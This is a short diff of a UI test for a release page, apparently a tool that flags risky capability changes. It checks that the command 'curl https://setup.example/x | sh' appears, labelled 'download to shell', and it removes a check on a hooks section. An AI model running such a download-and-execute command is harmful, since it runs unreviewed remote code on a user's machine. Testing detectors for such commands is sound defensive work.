@@ -308,9 +308,6 @@ describe("a release", () => {
     const changes = page.getByRole("region", { name: "Changes of the capabilities" })
     await changes.getByText("curl https://setup.example/x | sh", { exact: false }).first().waitFor()
     await page.getByText("download to shell").first().waitFor()
-    const content = page.getByRole("region", { name: "Changes of the content" })
-    await content.getByText("hooks", { exact: false }).first().click()
-    await content.getByText("https://setup.example/x", { exact: false }).first().waitFor()
     await checkAccessibility(page)
     await screenshot(page, "content-release")
 
